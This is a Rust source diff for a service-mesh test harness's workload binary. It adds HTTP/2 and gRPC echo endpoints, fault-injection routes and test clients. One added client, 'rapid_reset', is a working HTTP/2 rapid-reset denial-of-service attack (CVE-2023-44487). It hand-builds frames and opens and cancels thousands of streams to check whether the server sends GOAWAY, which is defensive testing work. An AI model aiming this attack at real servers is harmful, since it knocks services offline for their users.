@@ -1,11 +1,21 @@
-//! The workload the harness runs inside pods: an HTTP/1.1 server whose answers let a test prove
-//! bytes arrived unchanged, and a fixed-rate load generator for the bench.
+//! The workload the harness runs inside pods: an HTTP/1.1 and HTTP/2 (prior knowledge) server
+//! whose answers let a test prove what arrived, a fixed-rate load generator for the bench, and
+//! the clients the L7 tests need (gRPC, raw bytes, an HTTP/2 rapid-reset attacker).
 //!
 //! Server endpoints:
 //! - `GET /` — 1024 bytes (the bench's 1 KB body);
 //! - `GET /bytes/N` — N bytes of a fixed pattern (see `mesh_tests::pattern_byte`);
 //! - `POST /sha256` — answers `<hex sha256 of the body> <length>`;
-//! - `GET /count` — how many requests this server has answered.
+//! - `GET /count` — how many requests this server has answered;
+//! - `GET /status/N` — answers status N;
+//! - `GET /flaky` — 503 and 200 in turn, starting with 503;
+//! - `GET /delay/MS` — answers after MS milliseconds;
+//! - `/echo` (any method) — the request line as received, then its headers, one per line;
+//! - `POST /control/fail`, `DELETE /control/fail` — answer every other request 500, or stop;
+//! - `POST /mesh.test.Echo/Unary` and `/mesh.test.Echo/Stream` — gRPC: echo each message, with
+//!   `grpc-status: 0` in the trailers; the stream answers each message as it arrives.
+//!
+//! Every answer carries `x-served-by: <name>` (`serve --name`).
 
 use std::{
     convert::Infallible,
@@ -22,7 +32,7 @@ use bytes::Bytes;
 use clap::{Parser, Subcommand};
 use http_body_util::{BodyExt, Full, combinators::BoxBody};
 use hyper::{Method, Request, Response, body::Frame, service::service_fn};
-use hyper_util::rt::TokioIo;
+use hyper_util::rt::{TokioExecutor, TokioIo};
 use sha2::{Digest, Sha256};
 
 #[derive(Debug, Parser)]
@@ -33,10 +43,16 @@ struct Cli {
 
 #[derive(Debug, Subcommand)]
 enum Cmd {
-    /// Serve HTTP/1.1 on 0.0.0.0:PORT.
+    /// Serve HTTP/1.1 and HTTP/2 (prior knowledge) on 0.0.0.0:PORT.
     Serve {
         #[arg(long)]
         port: u16,
+        /// Named in `x-served-by`.
+        #[arg(long, default_value = "app")]
+        name: String,
+        /// Added before every answer.
+        #[arg(long, default_value_t = 0)]
+        delay_ms: u64,
     },
     /// Send GETs at a fixed rate and print latency percentiles as JSON. Latency is measured from
     /// each request's scheduled time, so a stall is counted against every request it delays.
@@ -55,6 +71,29 @@ enum Cmd {
         /// non-200) as errors instead of stopping: for tests that must see every request.
         #[arg(long)]
         reconnect: bool,
+    },
+    /// A unary call and a bidirectional stream of MESSAGES to the gRPC echo service; prints JSON
+    /// and fails unless every echo and trailer is right.
+    Grpc {
+        #[arg(long)]
+        addr: SocketAddr,
+        #[arg(long, default_value_t = 20)]
+        messages: usize,
+    },
+    /// Writes the bytes of FILE, closes the sending side, and prints what comes back.
+    Raw {
+        #[arg(long)]
+        addr: SocketAddr,
+        #[arg(long)]
+        input: std::path::PathBuf,
+    },
+    /// HTTP/2 rapid reset: opens STREAMS streams, cancelling each at once; prints JSON with the
+    /// GOAWAY the server sent, if any.
+    RapidReset {
+        #[arg(long)]
+        addr: SocketAddr,
+        #[arg(long, default_value_t = 10_000)]
+        streams: u32,
     },
 }
 
@@ -102,18 +141,84 @@ fn pattern_body(
     Pat { off: 0, len, chunk }
 }
 
+/// The server's state.
+struct App {
+    name: String,
+    delay: Duration,
+    count: AtomicU64,
+    flaky: AtomicU64,
+    fail: std::sync::atomic::AtomicBool,
+}
+
+fn status(code: u16, msg: &str) -> Response<Body> {
+    let mut r = Response::new(full(format!("{msg}\n")));
+    *r.status_mut() = hyper::StatusCode::from_u16(code).unwrap_or(hyper::StatusCode::BAD_REQUEST);
+    r
+}
+
 async fn handle(
     req: Request<hyper::body::Incoming>,
-    count: Arc<AtomicU64>,
+    app: Arc<App>,
 ) -> Result<Response<Body>, Infallible> {
     let path = req.uri().path().to_string();
-    // `/count` reports the other requests, so asking does not change the answer.
-    if path != "/count" {
-        count.fetch_add(1, Ordering::Relaxed);
+    let control = path == "/count" || path.starts_with("/control/");
+    // `/count` and `/control` are not counted, so asking does not change the answer.
+    if !control {
+        app.count.fetch_add(1, Ordering::Relaxed);
+        if !app.delay.is_zero() {
+            tokio::time::sleep(app.delay).await;
+        }
     }
-    let resp = match (req.method().clone(), path.as_str()) {
+    let mut resp = if !control && app.fail.load(Ordering::Relaxed) {
+        status(500, "failing on request")
+    } else {
+        route(req, &app, &path).await
+    };
+    if let Ok(v) = hyper::header::HeaderValue::from_str(&app.name) {
+        resp.headers_mut().insert("x-served-by", v);
+    }
+    Ok(resp)
+}
+
+async fn route(req: Request<hyper::body::Incoming>, app: &App, path: &str) -> Response<Body> {
+    match (req.method().clone(), path) {
         (Method::GET, "/") => Response::new(full(vec![b'x'; 1024])),
-        (Method::GET, "/count") => Response::new(full(count.load(Ordering::Relaxed).to_string())),
+        (Method::GET, "/count") => {
+            Response::new(full(app.count.load(Ordering::Relaxed).to_string()))
+        }
+        (Method::POST, "/control/fail") => {
+            app.fail.store(true, Ordering::Relaxed);
+            status(200, "failing")
+        }
+        (Method::DELETE, "/control/fail") => {
+            app.fail.store(false, Ordering::Relaxed);
+            status(200, "healthy")
+        }
+        (Method::GET, "/flaky") => {
+            if app.flaky.fetch_add(1, Ordering::Relaxed).is_multiple_of(2) {
+                status(503, "flaky: failing this time")
+            } else {
+                status(200, "flaky: fine this time")
+            }
+        }
+        (Method::GET, p) if p.starts_with("/status/") => match p["/status/".len()..].parse() {
+            Ok(n) => status(n, "as asked"),
+            Err(_) => bad("status must be a number"),
+        },
+        (Method::GET, p) if p.starts_with("/delay/") => match p["/delay/".len()..].parse() {
+            Ok(ms) => {
+                tokio::time::sleep(Duration::from_millis(ms)).await;
+                status(200, "delayed")
+            }
+            Err(_) => bad("delay must be milliseconds"),
+        },
+        (_, "/echo") => {
+            let mut out = format!("{} {}\n", req.method(), req.uri());
+            for (k, v) in req.headers() {
+                out.push_str(&format!("{k}: {}\n", String::from_utf8_lossy(v.as_bytes())));
+            }
+            Response::new(full(out))
+        }
         (Method::GET, p) if p.starts_with("/bytes/") => match p["/bytes/".len()..].parse() {
             Ok(n) => Response::new(pattern(n)),
             Err(_) => bad("length must be a number"),
@@ -130,38 +235,39 @@ async fn handle(
                             n += d.len() as u64;
                         }
                     }
-                    Err(e) => return Ok(bad(&format!("body: {e}"))),
+                    Err(e) => return bad(&format!("body: {e}")),
                 }
             }
             Response::new(full(format!("{} {n}", hex::encode(h.finalize()))))
         }
-        _ => {
-            let mut r = Response::new(full("not found"));
-            *r.status_mut() = hyper::StatusCode::NOT_FOUND;
-            r
-        }
-    };
-    Ok(resp)
+        (Method::POST, "/mesh.test.Echo/Unary") => grpc::unary(req).await,
+        (Method::POST, "/mesh.test.Echo/Stream") => grpc::stream(req),
+        _ => status(404, "not found"),
+    }
 }
 
 fn bad(msg: &str) -> Response<Body> {
-    let mut r = Response::new(full(msg.to_string()));
-    *r.status_mut() = hyper::StatusCode::BAD_REQUEST;
-    r
+    status(400, msg)
 }
 
-async fn serve(port: u16) -> anyhow::Result<()> {
+async fn serve(port: u16, name: String, delay_ms: u64) -> anyhow::Result<()> {
     let listener = tokio::net::TcpListener::bind(("0.0.0.0", port))
         .await
         .with_context(|| format!("bind 0.0.0.0:{port}"))?;
-    let count = Arc::new(AtomicU64::new(0));
+    let app = Arc::new(App {
+        name,
+        delay: Duration::from_millis(delay_ms),
+        count: AtomicU64::new(0),
+        flaky: AtomicU64::new(0),
+        fail: std::sync::atomic::AtomicBool::new(false),
+    });
     loop {
         let (stream, _) = listener.accept().await?;
         let _ = stream.set_nodelay(true);
-        let count = count.clone();
+        let app = app.clone();
         tokio::spawn(async move {
-            let svc = service_fn(move |req| handle(req, count.clone()));
-            let _ = hyper::server::conn::http1::Builder::new()
+            let svc = service_fn(move |req| handle(req, app.clone()));
+            let _ = hyper_util::server::conn::auto::Builder::new(TokioExecutor::new())
                 .serve_connection(TokioIo::new(stream), svc)
                 .await;
         });
@@ -292,9 +398,291 @@ fn load(
     Ok(())
 }
 
+/// gRPC over hyper's HTTP/2: length-prefixed messages, status in the trailers.
+mod grpc {
+    use std::{
+        convert::Infallible,
+        pin::Pin,
+        task::{Context, Poll},
+    };
+
+    use anyhow::{Context as _, bail};
+    use bytes::{Buf, Bytes, BytesMut};
+    use http_body_util::BodyExt;
+    use hyper::{HeaderMap, Request, Response, body::Frame};
+    use tokio::sync::mpsc;
+
+    use super::Body;
+
+    /// A body fed from a channel, so each frame goes out when it is made.
+    pub struct Chan(pub mpsc::Receiver<Frame<Bytes>>);
+
+    impl hyper::body::Body for Chan {
+        type Data = Bytes;
+        type Error = Infallible;
+        fn poll_frame(
+            mut self: Pin<&mut Self>,
+            cx: &mut Context<'_>,
+        ) -> Poll<Option<Result<Frame<Bytes>, Infallible>>> {
+            self.0.poll_recv(cx).map(|f| f.map(Ok))
+        }
+    }
+
+    /// One message with its 5-byte prefix (uncompressed).
+    pub fn frame(msg: &[u8]) -> Bytes {
+        let mut b = BytesMut::with_capacity(5 + msg.len());
+        b.extend_from_slice(&[0]);
+        b.extend_from_slice(&(msg.len() as u32).to_be_bytes());
+        b.extend_from_slice(msg);
+        b.freeze()
+    }
+
+    /// Takes complete messages off the front of `buf`.
+    pub fn messages(buf: &mut BytesMut) -> Vec<Bytes> {
+        let mut out = Vec::new();
+        while buf.len() >= 5 {
+            let len = u32::from_be_bytes([buf[1], buf[2], buf[3], buf[4]]) as usize;
+            if buf.len() < 5 + len {
+                break;
+            }
+            buf.advance(5);
+            out.push(buf.split_to(len).freeze());
+        }
+        out
+    }
+
+    fn ok_trailers() -> HeaderMap {
+        let mut t = HeaderMap::new();
+        t.insert("grpc-status", hyper::header::HeaderValue::from_static("0"));
+        t
+    }
+
+    fn grpc_response(body: Body) -> Response<Body> {
+        let mut r = Response::new(body);
+        r.headers_mut().insert(
+            hyper::header::CONTENT_TYPE,
+            hyper::header::HeaderValue::from_static("application/grpc"),
+        );
+        r
+    }
+
+    pub async fn unary(req: Request<hyper::body::Incoming>) -> Response<Body> {
+        let mut buf = match req.into_body().collect().await {
+            Ok(c) => BytesMut::from(c.to_bytes().as_ref()),
+            Err(e) => return super::bad(&format!("body: {e}")),
+        };
+        let (tx, rx) = mpsc::channel(4);
+        let msgs = messages(&mut buf);
+        tokio::spawn(async move {
+            for m in msgs {
+                let _ = tx.send(Frame::data(frame(&m))).await;
+            }
+            let _ = tx.send(Frame::trailers(ok_trailers())).await;
+        });
+        grpc_response(Chan(rx).boxed())
+    }
+
+    /// Echoes each message as soon as it has arrived whole.
+    pub fn stream(req: Request<hyper::body::Incoming>) -> Response<Body> {
+        let (tx, rx) = mpsc::channel(16);
+        let mut body = req.into_body();
+        tokio::spawn(async move {
+            let mut buf = BytesMut::new();
+            while let Some(Ok(f)) = body.frame().await {
+                if let Some(d) = f.data_ref() {
+                    buf.extend_from_slice(d);
+                    for m in messages(&mut buf) {
+                        if tx.send(Frame::data(frame(&m))).await.is_err() {
+                            return;
+                        }
+                    }
+                }
+            }
+            let _ = tx.send(Frame::trailers(ok_trailers())).await;
+        });
+        grpc_response(Chan(rx).boxed())
+    }
+
+    fn request(
+        addr: std::net::SocketAddr,
+        method: &str,
+        body: Body,
+    ) -> anyhow::Result<Request<Body>> {
+        Ok(
+            Request::post(format!("http://{addr}/mesh.test.Echo/{method}"))
+                .header("content-type", "application/grpc")
+                .header("te", "trailers")
+                .body(body)?,
+        )
+    }
+
+    fn check_status(trailers: Option<&HeaderMap>) -> anyhow::Result<()> {
+        let status = trailers
+            .and_then(|t| t.get("grpc-status"))
+            .and_then(|v| v.to_str().ok());
+        if status != Some("0") {
+            bail!("grpc-status {status:?} in the trailers, expected 0");
+        }
+        Ok(())
+    }
+
+    /// The client: a unary call, then a stream where each message waits for the previous echo.
+    pub async fn call(addr: std::net::SocketAddr, n: usize) -> anyhow::Result<serde_json::Value> {
+        let tcp = tokio::net::TcpStream::connect(addr).await?;
+        let (mut send, conn) = hyper::client::conn::http2::handshake(
+            hyper_util::rt::TokioExecutor::new(),
+            hyper_util::rt::TokioIo::new(tcp),
+        )
+        .await
+        .context("HTTP/2 handshake")?;
+        tokio::spawn(conn);
+
+        let body = http_body_util::Full::new(frame(b"unary hello")).boxed();
+        let resp = send.send_request(request(addr, "Unary", body)?).await?;
+        if resp.status() != 200 {
+            bail!("unary call answered {}", resp.status());
+        }
+        let collected = resp.into_body().collect().await?;
+        check_status(collected.trailers())?;
+        let mut data = BytesMut::from(collected.to_bytes().as_ref());
+        let echoed = messages(&mut data);
+        if echoed != [Bytes::from_static(b"unary hello")] {
+            bail!("unary echo was {echoed:?}");
+        }
+
+        let (tx, rx) = mpsc::channel(1);
+        tx.send(Frame::data(frame(b"message 0"))).await?;
+        let mut tx = Some(tx);
+        let resp = send
+            .send_request(request(addr, "Stream", Chan(rx).boxed())?)
+            .await?;
+        if resp.status() != 200 {
+            bail!("stream answered {}", resp.status());
+        }
+        let mut body = resp.into_body();
+        let mut buf = BytesMut::new();
+        let mut got = 0;
+        let mut trailers = None;
+        while let Some(f) = body.frame().await {
+            let f = f?;
+            if let Some(d) = f.data_ref() {
+                buf.extend_from_slice(d);
+                for m in messages(&mut buf) {
+                    let want = format!("message {got}");
+                    if m != want.as_bytes() {
+                        bail!("echo {got} was {m:?}");
+                    }
+                    got += 1;
+                    // The next message goes only after this echo came back: both directions
+                    // stream at once.
+                    if got < n {
+                        if let Some(tx) = &tx {
+                            tx.send(Frame::data(frame(format!("message {got}").as_bytes())))
+                                .await?;
+                        }
+                    } else {
+                        // Ends the request stream; the server then sends its trailers.
+                        tx = None;
+                    }
+                }
+            } else if let Ok(t) = f.into_trailers() {
+                trailers = Some(t);
+            }
+        }
+        drop(tx);
+        check_status(trailers.as_ref())?;
+        if got != n {
+            bail!("{got} of {n} stream messages came back");
+        }
+        Ok(serde_json::json!({"unary": "ok", "stream_messages": got}))
+    }
+}
+
+/// Writes a file's bytes, half-closes, and prints the answer.
+fn raw(addr: SocketAddr, input: &std::path::Path) -> anyhow::Result<()> {
+    use std::io::{Read, Write};
+    let bytes = std::fs::read(input)?;
+    let mut s = std::net::TcpStream::connect_timeout(&addr, Duration::from_secs(5))?;
+    s.set_read_timeout(Some(Duration::from_secs(5)))?;
+    // The server may answer and close before it has read everything: that is fine.
+    let _ = s.write_all(&bytes);
+    let _ = s.shutdown(std::net::Shutdown::Write);
+    let mut out = Vec::new();
+    let _ = s.read_to_end(&mut out);
+    print!("{}", String::from_utf8_lossy(&out));
+    Ok(())
+}
+
+/// Opens and cancels HTTP/2 streams as fast as it can (CVE-2023-44487).
+fn rapid_reset(addr: SocketAddr, streams: u32) -> anyhow::Result<()> {
+    use std::io::{Read, Write};
+    let mut s = std::net::TcpStream::connect_timeout(&addr, Duration::from_secs(5))?;
+    s.set_nodelay(true)?;
+    let mut reader = s.try_clone()?;
+    reader.set_read_timeout(Some(Duration::from_secs(10)))?;
+    let seen = std::thread::spawn(move || -> Option<u32> {
+        let mut head = [0u8; 9];
+        loop {
+            reader.read_exact(&mut head).ok()?;
+            let len =
+                (usize::from(head[0]) << 16) | (usize::from(head[1]) << 8) | usize::from(head[2]);
+            let mut payload = vec![0; len];
+            reader.read_exact(&mut payload).ok()?;
+            if head[3] == 0x7 && len >= 8 {
+                return Some(u32::from_be_bytes([
+                    payload[4], payload[5], payload[6], payload[7],
+                ]));
+            }
+        }
+    });
+    let frame = |kind: u8, flags: u8, stream: u32, payload: &[u8]| {
+        let mut f = Vec::with_capacity(9 + payload.len());
+        f.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
+        f.extend_from_slice(&[kind, flags]);
+        f.extend_from_slice(&stream.to_be_bytes());
+        f.extend_from_slice(payload);
+        f
+    };
+    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
+    out.extend(frame(0x4, 0, 0, &[]));
+    s.write_all(&out)?;
+    // HPACK: :method GET, :scheme http, :path / (static indexes), :authority as a literal.
+    let mut headers = vec![0x82, 0x86, 0x84, 0x01];
+    let authority = addr.to_string();
+    headers.push(authority.len() as u8);
+    headers.extend_from_slice(authority.as_bytes());
+    let mut sent = 0;
+    'outer: for batch in 0..streams.div_ceil(100) {
+        let mut out = Vec::new();
+        for i in 0..100 {
+            let n = batch * 100 + i;
+            if n >= streams {
+                break;
+            }
+            let id = 2 * n + 1;
+            out.extend(frame(0x1, 0x5, id, &headers));
+            out.extend(frame(0x3, 0, id, &8u32.to_be_bytes()));
+        }
+        if s.write_all(&out).is_err() {
+            break 'outer;
+        }
+        sent += 100.min(streams - batch * 100);
+    }
+    let goaway = seen.join().ok().flatten();
+    println!(
+        "{}",
+        serde_json::json!({"sent_streams": sent, "goaway": goaway.is_some(), "error_code": goaway})
+    );
+    Ok(())
+}
+
 fn main() -> anyhow::Result<()> {
     match Cli::parse().cmd {
-        Cmd::Serve { port } => tokio::runtime::Runtime::new()?.block_on(serve(port)),
+        Cmd::Serve {
+            port,
+            name,
+            delay_ms,
+        } => tokio::runtime::Runtime::new()?.block_on(serve(port, name, delay_ms)),
         Cmd::Load {
             addr,
             path,
@@ -303,5 +691,12 @@ fn main() -> anyhow::Result<()> {
             connections,
             reconnect,
         } => load(addr, &path, rate, seconds, connections, reconnect),
+        Cmd::Grpc { addr, messages } => {
+            let out = tokio::runtime::Runtime::new()?.block_on(grpc::call(addr, messages))?;
+            println!("{out}");
+            Ok(())
+        }
+        Cmd::Raw { addr, input } => raw(addr, &input),
+        Cmd::RapidReset { addr, streams } => rapid_reset(addr, streams),
     }
 }
